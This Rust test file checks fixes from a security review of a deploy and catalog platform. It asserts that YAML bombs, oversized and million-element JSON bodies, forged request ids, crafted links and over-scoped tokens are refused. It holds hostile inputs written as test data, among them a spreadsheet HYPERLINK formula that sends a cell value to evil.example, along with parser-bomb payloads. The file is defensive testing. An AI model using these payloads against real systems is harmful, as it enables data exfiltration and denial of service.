//! What a security review found (issue 13), each as the attack it describes: parser bombs,
//! token scopes on approvals, service tokens as their own actor, forged request ids, payloads
//! that amplify into every inbox, and tier 0 through the importer.
use crate::helpers::{Browser, Options, Persona, TestApp, eventually, spawn_app_with};
use serde_json::{json, Value};
use sqlx::Row;
use uuid::Uuid;

async fn app() -> TestApp {
    spawn_app_with(Options { migrate: true, demo_data: true, settings: vec![("deploys.worker", false.into())] }).await
}

/// Sends `files` to the import API as `token` (a dry run unless `apply`).
async fn import(app: &TestApp, token: &str, files: Vec<(&str, String)>, apply: bool) -> reqwest::Response {
    let mut form = reqwest::multipart::Form::new();
    for (path, content) in files {
        form = form.part("f", reqwest::multipart::Part::text(content).file_name(path.to_owned()));
    }
    let query = if apply { "" } else { "?dry_run=true" };
    app.client.post(app.url(&format!("/api/v1/catalog/import{query}"))).bearer_auth(token).multipart(form).send().await.expect("import")
}

/// Kicks off a deploy of `service` to `environment` from `b`'s signed-in browser, keyed `key`.
async fn kick_off(b: &Browser, key: &str, service: &str, environment: &str) -> reqwest::Response {
    b.kick_off(key, &json!({ "service": service, "environment": environment, "version": "v1", "reason": "security test" })).await
}

async fn error_of(r: reqwest::Response) -> (u16, String, String) {
    let status = r.status().as_u16();
    let v: Value = r.json().await.expect("json");
    (status, v["error"]["field"].as_str().unwrap_or("").to_owned(), v["error"]["message"].as_str().unwrap_or("").to_owned())
}

const DOMAIN: &str = "apiVersion: backstage.io/v1alpha1\nkind: Domain\nmetadata: {name: bombs}\nspec: {owner: ledger}\n";

#[tokio::test]
async fn yaml_bombs_are_refused_naming_the_limit_while_the_server_answers_others() {
    let app = app().await;
    let dave = app.login_as(Persona::Viewer).await; // a viewer: a dry run needs only `read`
    let reader = dave.token("reader", &["read"], None).await;
    let nesting = "[".repeat(1_900_000);
    let anchor = format!("a: &big \"{}\"\nb: [{}]\n", "x".repeat(100_000), vec!["*big"; 2_000].join(", "));
    let documents = "---\n".repeat(20_000);
    let bombs = [
        ("nesting", nesting, "deeper than 32 levels"),
        ("aliases", anchor, "alias"),
        ("documents", documents, "documents over 10000"),
    ];
    // every bomb, three times at once, with ordinary reads among them
    let sent = bombs.iter().flat_map(|b| [b, b, b]).map(|(name, text, _)| {
        let (app, reader) = (&app, &reader);
        async move { (*name, import(app, reader, vec![("catalog-info.yaml", text.clone())], false).await) }
    });
    let reads = (0..12).map(|i| {
        let (app, reader) = (&app, &reader);
        async move {
            let path = if i % 2 == 0 { "/api/v1/me" } else { "/api/v1/catalog/entities?limit=5" };
            app.client.get(app.url(path)).bearer_auth(reader).send().await.expect("read").status().as_u16()
        }
    });
    let (refusals, answers) = futures::future::join(futures::future::join_all(sent), futures::future::join_all(reads)).await;
    assert!(answers.iter().all(|s| *s == 200), "ordinary reads beside the bombs: {answers:?}");
    for (name, r) in refusals {
        let expected = bombs.iter().find(|b| b.0 == name).map(|b| b.2).unwrap_or_default();
        let (status, field, message) = error_of(r).await;
        assert_eq!((status, field.as_str()), (422, "catalog-info.yaml"), "{name}: {message}");
        assert!(message.contains(expected), "{name}: {message}");
    }
    // the same limits hold for the page's import, and a sane file still imports
    let form = [("content", "a: [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]"), ("dry_run", "on")];
    let r = dave.server_fn("catalog/import", &form).await;
    let status = r.status();
    let body = r.text().await.expect("body");
    assert_eq!(status, 422, "{body}");
    assert!(body.contains("deeper than 32"), "{body}");
    let ok = import(&app, &reader, vec![("catalog-info.yaml", DOMAIN.into())], false).await;
    assert_eq!(ok.status(), 200);
}

#[tokio::test]
async fn an_import_over_its_size_limits_is_a_413_naming_the_limit() {
    let app = app().await;
    let dave = app.login_as(Persona::Viewer).await;
    let reader = dave.token("reader", &["read"], None).await;
    let many: Vec<(&str, String)> = (0..5_001).map(|_| ("x.yaml", String::new())).collect();
    let (status, _, message) = error_of(import(&app, &reader, many, false).await).await;
    assert_eq!(status, 413, "{message}");
    assert!(message.contains("at most 5000"), "{message}");
}

#[tokio::test]
async fn an_import_over_the_body_limit_is_a_413_naming_that_limit() {
    let app = app().await;
    let dave = app.login_as(Persona::Viewer).await;
    let reader = dave.token("reader", &["read"], None).await;
    let big = format!("# {}\n", "x".repeat(3 * 1024 * 1024));
    let r = import(&app, &reader, vec![("catalog-info.yaml", big)], false).await;
    let (status, field, message) = error_of(r).await;
    assert_eq!(status, 413, "{message}");
    assert!(message.contains("server.body_limit_bytes"), "names the limit: {field}: {message}");
}

/// A production deploy of refunds (payments') asked for by a payments service token, so that
/// bob, payments' lead, may decide on it.
async fn production_deploy(app: &TestApp, ci: &str) -> (String, String) {
    let r = app
        .client
        .post(app.url("/api/v1/deploys"))
        .bearer_auth(ci)
        .header("idempotency-key", Uuid::new_v4().to_string())
        .json(&json!({ "service": "refunds", "environment": "production", "version": "v7", "reason": "release" }))
        .send()
        .await
        .expect("kick off");
    let v: Value = r.json().await.expect("json");
    assert_eq!(v["state"], "awaiting_approval", "{v}");
    (v["id"].as_str().expect("id").to_owned(), v["approval_id"].as_str().expect("approval").to_owned())
}

async fn decide(app: &TestApp, token: &str, approval: &str) -> u16 {
    app.client
        .post(app.url(&format!("/api/v1/approvals/{approval}/approve")))
        .bearer_auth(token)
        .json(&json!({ "comment": "ok" }))
        .send()
        .await
        .expect("decide")
        .status()
        .as_u16()
}

#[tokio::test]
async fn a_leads_token_decides_only_with_the_scope_the_change_needs() {
    let app = app().await;
    let alice = app.login_as(Persona::Admin).await;
    let bob = app.login_as(Persona::PaymentsLead).await; // lead of payments
    let ci = alice.token("ci", &["read", "deploy"], Some("payments")).await;
    let (_, approval) = production_deploy(&app, &ci).await;
    let read_only = bob.token("reader", &["read"], None).await;
    let writer = bob.token("writer", &["write"], None).await;
    assert_eq!(decide(&app, &read_only, &approval).await, 403, "a read-only token approved a production deploy");
    assert_eq!(decide(&app, &writer, &approval).await, 403, "a deploy needs the deploy scope to approve");
    let deployer = bob.token("deployer", &["read", "deploy"], None).await;
    assert_eq!(decide(&app, &deployer, &approval).await, 200);
}

#[tokio::test]
async fn a_service_token_acts_as_itself_not_as_the_admin_who_made_it() {
    let app = app().await;
    let alice = app.login_as(Persona::Admin).await;
    let ci = alice.token("ci", &["read", "deploy"], Some("payments")).await;
    // fees-engine is ledger's: nothing of payments', so its token has no say over its deploys
    let ask = json!({ "service": "fees-engine", "environment": "dev", "version": "v8", "reason": "release" });
    let kick = |who: reqwest::RequestBuilder| who.header("idempotency-key", "release-v8").json(&ask).send();
    let by_alice = kick(alice.client.post(alice.url("/api/v1/deploys")).header("origin", alice.url(""))).await.expect("alice");
    assert_eq!(by_alice.status(), 201);
    let alices: Value = by_alice.json().await.expect("json");
    let payments = json!({ "service": "refunds", "environment": "dev", "version": "v8", "reason": "release" });
    let by_token = app
        .client
        .post(app.url("/api/v1/deploys"))
        .bearer_auth(&ci)
        .header("idempotency-key", "release-v8")
        .json(&payments)
        .send()
        .await
        .expect("token");
    assert_eq!(by_token.status(), 201, "the token shares no idempotency keys with alice");
    let tokens: Value = by_token.json().await.expect("json");
    assert_ne!(tokens["id"], alices["id"]);
    assert_eq!(tokens["requester"], "token:payments/ci");

    let mut db = app.db().await;
    let (actor, actor_id): (String, Uuid) = sqlx::query_as(
        "SELECT actor_name, actor_id FROM audit_log WHERE subject_id = $1 AND action LIKE 'deploy.%' ORDER BY id LIMIT 1",
    )
    .bind(tokens["id"].as_str())
    .fetch_one(&mut db)
    .await
    .expect("audit row");
    let alice_id: Uuid = sqlx::query("SELECT id FROM users WHERE username = 'alice'").fetch_one(&mut db).await.expect("alice").get(0);
    assert_eq!(actor, "token:payments/ci");
    assert_ne!(actor_id, alice_id, "the audit names the token, not the admin who made it");

    let cancel = app
        .client
        .post(app.url(&format!("/api/v1/deploys/{}/cancel", alices["id"].as_str().expect("id"))))
        .bearer_auth(&ci)
        .send()
        .await
        .expect("cancel");
    assert_eq!(cancel.status(), 403, "the token cancelled its maker's deploy");
}

#[tokio::test]
async fn a_forged_request_id_is_replaced_and_never_reaches_the_csv() {
    let app = app().await;
    let alice = app.login_as(Persona::Admin).await;
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")";
    let r = alice
        .client
        .post(alice.url("/api/iam/create-team"))
        .header("origin", alice.url(""))
        .header("accept", "application/json")
        .header("x-request-id", formula)
        .form(&[("slug", "csv-team"), ("name", "CSV"), ("description", "")])
        .send()
        .await
        .expect("create team");
    assert_eq!(r.status(), 200);
    let fresh = r.headers().get("x-request-id").and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
    assert!(Uuid::parse_str(&fresh).is_ok(), "a fresh id is answered, not the forged one: {fresh}");
    let kept = alice.client.get(alice.url("/api/v1/me")).header("x-request-id", "ci-run.42_a").send().await.expect("me");
    assert_eq!(kept.headers().get("x-request-id").and_then(|v| v.to_str().ok()), Some("ci-run.42_a"), "a plain id is kept");

    let csv = alice.get("/admin/audit.csv").await.text().await.expect("csv");
    assert!(!csv.contains("HYPERLINK"), "{csv}");
    assert!(csv.contains(&fresh), "the team's audit row carries the fresh id");
    for line in csv.lines().skip(1) {
        for cell in line.split(',') {
            assert!(!cell.starts_with(['=', '+', '@']), "a formula cell in the export: {line}");
        }
    }
}

#[tokio::test]
async fn large_payloads_stay_out_of_lists_and_one_person_has_few_requests_open() {
    let app = app().await;
    let dave = app.login_as(Persona::Viewer).await;
    let alice = app.login_as(Persona::Admin).await;
    let writer = dave.token("writer", &["read", "write"], None).await;
    let padded = format!("{DOMAIN}# {}\n", "padding ".repeat(20_000));
    let first = import(&app, &writer, vec![("catalog-info.yaml", padded.clone())], true).await;
    let report: Value = first.json().await.expect("json");
    let id = report["approval_id"].as_str().expect("sent for approval").to_owned();

    let inbox: Vec<Value> = alice.server_fn("approvals/list", &[("inbox", "all")]).await.json().await.expect("json");
    let listed = inbox.iter().find(|v| v["id"] == id.as_str()).expect("listed");
    assert_eq!(listed["payload"], "", "a 160 KB payload in the list");
    let whole: Value = alice.server_fn("approvals/get", &[("id", &id)]).await.json().await.expect("json");
    assert!(whole["payload"].as_str().unwrap_or("").contains("padding padding"), "the request's page has it");

    for _ in 1..100 {
        let r = import(&app, &writer, vec![("catalog-info.yaml", DOMAIN.into())], true).await;
        assert_eq!(r.status(), 200);
    }
    let (status, field, message) = error_of(import(&app, &writer, vec![("catalog-info.yaml", DOMAIN.into())], true).await).await;
    assert_eq!((status, field.as_str()), (422, "request"), "{message}");
    assert!(message.contains("100 requests waiting"), "{message}");
}

#[tokio::test]
async fn tier_zero_through_the_importer_needs_two_approvals_even_from_an_admin() {
    let app = app().await;
    let alice = app.login_as(Persona::Admin).await;
    let admin = alice.token("admin", &["admin"], None).await;
    let component = "apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: vault-two\n  annotations: {switchyard.dev/tier: '0'}\nspec: {type: service, lifecycle: production, owner: ledger}\n";
    let r = import(&app, &admin, vec![("catalog-info.yaml", component.into())], true).await;
    let report: Value = r.json().await.expect("json");
    assert_eq!(report["applied"], false, "an admin's import of a tier 0 service applied at once: {report}");
    let id = report["approval_id"].as_str().expect("sent for approval").to_owned();
    let mut db = app.db().await;
    let required: i32 = sqlx::query("SELECT required_approvals FROM approval_requests WHERE id = $1::uuid")
        .bind(&id)
        .fetch_one(&mut db)
        .await
        .expect("request")
        .get(0);
    assert_eq!(required, 2);
    let found: i64 = sqlx::query("SELECT count(*) FROM entities WHERE name = 'vault-two'").fetch_one(&mut db).await.expect("count").get(0);
    assert_eq!(found, 0, "nothing is written before two approvals");
}

#[tokio::test]
async fn a_service_with_deploys_is_refused_deletion_with_the_reason_not_a_500() {
    let app = app().await;
    let alice = app.login_as(Persona::Admin).await;
    let bob = app.login_as(Persona::PaymentsLead).await;
    let admin = alice.token("admin", &["admin"], None).await;
    let leaf = "apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: leaf-svc\n  annotations: {switchyard.dev/tier: '3'}\nspec: {type: service, lifecycle: production, owner: payments}\n";
    let report: Value = import(&app, &admin, vec![("catalog-info.yaml", leaf.into())], true).await.json().await.expect("json");
    assert_eq!(report["applied"], true, "{report}");
    assert_eq!(kick_off(&bob, "leaf-1", "leaf-svc", "dev").await.status(), 201);
    let form = [("kind", "component"), ("namespace", "default"), ("name", "leaf-svc")];
    let r = alice.server_fn("catalog/delete", &form).await;
    let status = r.status();
    let body = r.text().await.expect("body");
    assert_eq!(status, 422, "{body}");
    assert!(body.contains("deprecate it instead"), "{body}");
}

#[tokio::test]
async fn histories_show_where_a_change_came_from_to_admins_only() {
    let app = app().await;
    let alice = app.login_as(Persona::Admin).await;
    let dave = app.login_as(Persona::Viewer).await;
    let made = alice
        .client
        .post(alice.url("/api/iam/create-team"))
        .header("origin", alice.url(""))
        .header("accept", "application/json")
        .header("x-request-id", "trace-me-123")
        .form(&[("slug", "history-team"), ("name", "History"), ("description", "")])
        .send()
        .await
        .expect("create team");
    assert_eq!(made.status(), 200);
    let history = async |b: &Browser| -> Vec<Value> {
        b.server_fn("audit/history", &[("subject_kind", "team"), ("subject_id", "history-team")]).await.json().await.expect("json")
    };
    let for_admin = history(&alice).await;
    assert_eq!(for_admin[0]["request_id"], "trace-me-123");
    let for_dave = history(&dave).await;
    assert_eq!(for_dave[0]["actor_name"], "alice", "everyone sees who did it");
    assert_eq!(for_dave[0]["request_id"], "", "a viewer saw the request id");
    assert_eq!(for_dave[0]["source_ip"], "", "a viewer saw the source IP");
}

#[tokio::test]
async fn pages_allow_only_their_own_scripts_and_every_response_carries_the_browser_headers() {
    let app = app().await;
    let dave = app.login_as(Persona::Viewer).await;
    let page = dave.get("/catalog").await;
    assert_eq!(page.status(), 200);
    let header = |r: &reqwest::Response, name: &str| r.headers().get(name).and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
    let csp = header(&page, "content-security-policy");
    let nonce = csp.split("'nonce-").nth(1).and_then(|rest| rest.split('\'').next()).unwrap_or("").to_owned();
    assert!(nonce.len() >= 16, "a nonce in the page's policy: {csp}");
    assert!(csp.contains("frame-ancestors 'none'") && !csp.contains("'unsafe-inline' 'self'") && !csp.contains("script-src 'unsafe-inline'"), "{csp}");
    assert_eq!(header(&page, "x-content-type-options"), "nosniff");
    assert_eq!(header(&page, "referrer-policy"), "same-origin");
    let html = page.text().await.expect("html");
    // every script that runs carries the nonce (a JSON data block does not run)
    let scripts = html.matches("<script").count() - html.matches("type=\"application/json\"").count();
    let with_nonce = html.matches(&format!("nonce=\"{nonce}\"")).count();
    assert!(with_nonce >= 2 && with_nonce >= scripts, "{with_nonce} of {scripts} scripts carry the nonce");
    for handler in [" onclick=", " onchange=", " onsubmit=", " onload="] {
        assert!(!html.contains(handler), "an inline handler ({handler}) the policy would block");
    }
    let other = dave.get("/api/v1/me").await;
    assert!(header(&other, "content-security-policy").starts_with("default-src 'none'"), "{:?}", other.headers());
    assert_eq!(header(&other, "x-content-type-options"), "nosniff");
    assert_eq!(header(&other, "strict-transport-security"), "", "no HSTS over plain http");
    // a second page gets a nonce of its own
    let again = header(&dave.get("/catalog").await, "content-security-policy");
    assert!(!again.contains(&nonce), "a nonce used twice");
}

#[tokio::test]
async fn expired_sessions_are_purged_and_a_started_sign_in_is_short_lived() {
    let app = spawn_app_with(Options { migrate: true, demo_data: false, settings: vec![("session.purge_secs", 0.1.into())] }).await;
    let mut db = app.db().await;
    sqlx::query("INSERT INTO tower_sessions.session (id, data, expiry_date) VALUES ('stale', '\\x7b7d', now() - interval '1 minute')")
        .execute(&mut db)
        .await
        .expect("an expired session");
    let started = app.get("/auth/login").await;
    assert_eq!(started.status(), 303);
    let minutes: f64 = sqlx::query("SELECT extract(epoch FROM max(expiry_date) - now())::float8 / 60 FROM tower_sessions.session")
        .fetch_one(&mut db)
        .await
        .expect("pending")
        .get(0);
    assert!(minutes <= 10.0, "an anonymous sign-in start is kept {minutes:.1} minutes");
    eventually("the expired session to be purged", || async {
        let left: i64 = sqlx::query("SELECT count(*) FROM tower_sessions.session WHERE id = 'stale'").fetch_one(&mut app.db().await).await.expect("count").get(0);
        (left == 0).then_some(())
    })
    .await;
}

#[tokio::test]
async fn a_personal_token_stops_when_its_owner_has_not_signed_in_for_the_idle_limit() {
    let app = app().await;
    let bob = app.login_as(Persona::PaymentsLead).await;
    let secret = bob.token("laptop", &["read"], None).await;
    let me = |s: &str| app.client.get(app.url("/api/v1/me")).bearer_auth(s.to_owned()).send();
    assert_eq!(me(&secret).await.expect("me").status(), 200);
    sqlx::query("UPDATE users SET last_login_at = now() - interval '31 days' WHERE username = 'bob'")
        .execute(&mut app.db().await)
        .await
        .expect("age bob");
    let refused = me(&secret).await.expect("me");
    assert_eq!(refused.status(), 401, "a token of someone gone a month still works");
    let body: Value = refused.json().await.expect("json");
    assert!(body["error"]["message"].as_str().unwrap_or("").contains("has not signed in for too long"), "{body}");
    app.login_as(Persona::PaymentsLead).await;
    assert_eq!(me(&secret).await.expect("me").status(), 200, "signing in again revives it");
}

#[tokio::test]
async fn a_live_deploy_stream_ends_with_its_session_and_one_session_holds_only_a_few() {
    let app = app().await;
    let bob = app.login_as(Persona::PaymentsLead).await;
    let kicked = kick_off(&bob, "stream-1", "refunds", "production").await;
    let id = kicked.json::<Value>().await.expect("json")["id"].as_str().expect("id").to_owned();
    let mut open = Vec::new();
    for _ in 0..8 {
        let r = bob.get(&format!("/deploys/{id}/stream")).await;
        assert_eq!(r.status(), 200);
        open.push(r);
    }
    let ninth = bob.get(&format!("/deploys/{id}/stream")).await;
    assert_eq!(ninth.status(), 429, "a ninth stream for one session");
    drop(open.split_off(1)); // seven closed: their slots come back as the server notices
    let watched = open.pop().expect("one stream");
    sqlx::query("UPDATE user_sessions SET ended_at = now() WHERE user_id = (SELECT id FROM users WHERE username = 'bob')")
        .execute(&mut app.db().await)
        .await
        .expect("end bob's session");
    // the deploy waits for approval and never ends by itself: only the session's end ends this
    let ended = tokio::time::timeout(std::time::Duration::from_secs(30), watched.bytes()).await;
    assert!(ended.is_ok(), "the stream outlived the session that opened it");
}

#[tokio::test]
async fn a_checkpoint_shows_rows_cut_off_a_chain_and_a_stripe_removed() {
    use app::audit::service as audit;
    use app::audit::types::ChainCheck;
    use sqlx::Executor;
    let app = app().await;
    app.login_as(Persona::PaymentsLead).await;
    let pool = app.pool();
    let cp = audit::checkpoint(&pool).await.expect("checkpoint");
    assert!(cp.is_some(), "a first checkpoint");
    assert_eq!(audit::checkpoint(&pool).await.expect("again"), None, "nothing new: no checkpoint");
    assert!(matches!(audit::verify(&pool).await.expect("verify"), ChainCheck::Intact { .. }));
    // cut the newest row off one stripe (a truncated tail leaves a perfectly linked chain)
    let (chain, newest): (i16, i64) = sqlx::query_as("SELECT chain, max(id) FROM audit_log GROUP BY chain ORDER BY 2 DESC LIMIT 1")
        .fetch_one(&pool)
        .await
        .expect("a stripe");
    let mut db = app.db().await;
    db.execute(
        format!(
            "ALTER TABLE audit_log DISABLE TRIGGER audit_log_no_update_delete;
             DELETE FROM audit_log WHERE id = {newest};
             ALTER TABLE audit_log ENABLE TRIGGER audit_log_no_update_delete;"
        )
        .as_str(),
    )
    .await
    .expect("cut");
    let ChainCheck::Broken { row_id, reason } = audit::verify(&pool).await.expect("verify") else { panic!("a cut tail went unnoticed") };
    assert_eq!(row_id, newest);
    assert!(reason.contains(&format!("newest row of stripe {chain}")), "{reason}");
}

#[tokio::test]
async fn a_crafted_link_fills_in_no_import_and_no_freeze_override() {
    let app = app().await;
    let alice = app.login_as(Persona::Admin).await;
    let planted = "PLANTED-BY-A-LINK";
    let page = alice.get(&format!("/catalog/import?content={planted}&report=%7B%7D&error={planted}")).await.text().await.expect("page");
    assert!(!page.contains(planted), "the import page took text from its address");
    let form = alice.get(&format!("/deploys/new?service=refunds&freeze_override={planted}")).await.text().await.expect("page");
    assert!(!form.contains(planted), "the deploy form took an override from its address");

    // without JavaScript, a post's text and report come back through the session, once
    let posted = alice
        .client
        .post(alice.url("/api/catalog/import"))
        .header("origin", alice.url(""))
        .header("accept", "text/html")
        .form(&[("content", DOMAIN), ("dry_run", "on")])
        .send()
        .await
        .expect("post");
    assert!(posted.status().is_redirection());
    assert_eq!(posted.headers().get("location").and_then(|v| v.to_str().ok()), Some("/catalog/import"));
    let back = alice.get("/catalog/import").await.text().await.expect("page");
    assert!(back.contains("name: bombs") && back.contains("domain:default/bombs"), "the pasted text and its report come back");
    let again = alice.get("/catalog/import").await.text().await.expect("page");
    assert!(!again.contains("domain:default/bombs"), "shown once");
}

#[tokio::test]
async fn people_who_share_a_name_are_never_mistaken_for_each_other() {
    let app = app().await;
    let alice = app.login_as(Persona::Admin).await;
    app.login_as(Persona::LedgerMember).await;
    sqlx::query("INSERT INTO users (issuer, subject, username, email, name) VALUES ('https://other-idp.example', 'x-42', 'carol', 'carol@other.example', 'Another Carol')")
        .execute(&mut app.db().await)
        .await
        .expect("a second carol");
    let r = alice.server_fn("iam/set-member", &[("team", "data"), ("username", "carol"), ("role", "member")]).await;
    let status = r.status();
    let body = r.text().await.expect("body");
    assert_eq!(status, 422, "{body}");
    assert!(body.contains("more than one person is called"), "{body}");
    let r = alice.server_fn("iam/set-member", &[("team", "data"), ("username", "carol@switchyard.test"), ("role", "member")]).await;
    assert_eq!(r.status(), 200, "by email: the one carol");
    let members: i64 = sqlx::query(
        "SELECT count(*) FROM team_members m JOIN teams t ON t.id = m.team_id JOIN users u ON u.id = m.user_id WHERE t.slug = 'data' AND u.email = 'carol@switchyard.test'",
    )
    .fetch_one(&mut app.db().await)
    .await
    .expect("count")
    .get(0);
    assert_eq!(members, 1);
}

#[tokio::test]
async fn the_deploy_list_tells_requesters_apart_by_id() {
    let app = app().await;
    let bob = app.login_as(Persona::PaymentsLead).await;
    let kicked: Value = kick_off(&bob, "by-id-1", "refunds", "dev").await.json().await.expect("json");
    let bob_id = kicked["requester_id"].as_str().expect("the requester's id").to_owned();
    // another "bob", from another directory
    sqlx::query("INSERT INTO users (issuer, subject, username, email) VALUES ('https://other-idp.example', 'b-7', 'bob', 'bob@other.example')")
        .execute(&mut app.db().await)
        .await
        .expect("a second bob");
    let by_id: Value = bob.get(&format!("/api/v1/deploys?requester={bob_id}")).await.json().await.expect("json");
    let items = by_id.as_array().or_else(|| by_id["items"].as_array()).cloned().unwrap_or_default();
    assert!(!items.is_empty() && items.iter().all(|d| d["requester_id"] == bob_id.as_str()), "{by_id}");
    let page = bob.get("/deploys").await.text().await.expect("page");
    assert!(page.contains(&format!("/deploys?requester={bob_id}")), "the list links requesters by id");
    // and the audit log's actor filter takes the id too
    let alice = app.login_as(Persona::Admin).await;
    let rows: Value = alice.server_fn("audit/search", &[("actor", bob_id.as_str())]).await.json().await.expect("json");
    let entries = rows["entries"].as_array().cloned().unwrap_or_default();
    assert!(!entries.is_empty() && entries.iter().all(|e| e["actor_id"] == bob_id.as_str()), "{rows}");
}

#[tokio::test]
async fn a_huge_body_and_a_million_element_array_are_refused_by_name_and_the_server_keeps_answering() {
    let app = app().await;
    let alice = app.login_as(Persona::Admin).await;
    let ingest = alice.token("ingest", &["ingest"], Some("payments")).await;
    let bob = app.login_as(Persona::PaymentsLead).await;
    let reader = bob.token("reader", &["read", "deploy"], None).await;
    let post = |path: &str, token: &str, body: Vec<u8>| {
        app.client.post(app.url(path)).bearer_auth(token).header("content-type", "application/json").body(body).send()
    };
    // fifty megabytes of one JSON string
    let mut huge = b"{\"eventType\": \"".to_vec();
    huge.resize(50 * 1024 * 1024, b'x');
    huge.extend_from_slice(b"\"}");
    let (status, _, message) = error_of(post("/api/v1/lineage", &ingest, huge.clone()).await.expect("huge event")).await;
    assert_eq!(status, 413, "{message}");
    assert!(message.contains("server.body_limit_bytes"), "names the limit: {message}");
    let r = app.client.post(app.url("/api/v1/deploys")).bearer_auth(&reader).header("idempotency-key", "huge").header("content-type", "application/json").body(huge).send().await.expect("huge kick-off");
    let (status, _, message) = error_of(r).await;
    assert_eq!(status, 413, "{message}");
    assert!(message.contains("server.body_limit_bytes"), "names the limit: {message}");

    // a million elements, under the byte limit
    // a million elements in two megabytes: under the body limit, so the handler judges it
    let million = format!("[{}0]", "0,".repeat(999_999));
    let (status, _, message) = error_of(post("/api/v1/lineage/batch", &ingest, million.clone().into_bytes()).await.expect("batch")).await;
    assert_eq!(status, 400, "{message}");
    assert!(message.contains("1000000 events in one batch; at most 1000"), "{message}");
    let kick_off = format!(r#"{{"service": {million}, "environment": "dev", "version": "v1", "reason": "a million"}}"#);
    let r = app.client.post(app.url("/api/v1/deploys")).bearer_auth(&reader).header("idempotency-key", "million").header("content-type", "application/json").body(kick_off).send().await.expect("kick-off");
    let (status, field, message) = error_of(r).await;
    assert!(status == 400 || status == 422, "{status}: {message}");
    assert!(message.contains("service") || field == "service", "names the field: {field}: {message}");
    assert_eq!(app.count("SELECT count(*) FROM deploys WHERE idempotency_key IN ('huge', 'million')", &[]).await, 0, "nothing was written");

    // and it still answers
    let me = app.client.get(app.url("/api/v1/me")).bearer_auth(&reader).send().await.expect("me");
    assert_eq!(me.status(), 200);
}
